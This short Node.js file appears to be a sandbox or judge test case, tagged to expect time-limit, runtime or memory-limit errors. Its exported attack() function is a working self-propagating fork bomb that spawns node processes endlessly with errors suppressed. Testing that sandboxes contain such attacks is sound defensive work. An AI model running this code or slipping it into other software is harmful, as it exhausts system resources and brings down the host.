// expect: TLE | RTE | MLE
const { spawn } = require('node:child_process');

const bomb = `const { spawn } = require('node:child_process');
for (;;) try { spawn(process.execPath, ['-e', process.env.BOMB]).on('error', () => {}); } catch {}`;

exports.attack = () => {
  process.env.BOMB = bomb;
  for (;;) spawn(process.execPath, ['-e', bomb]).on('error', () => {});
};
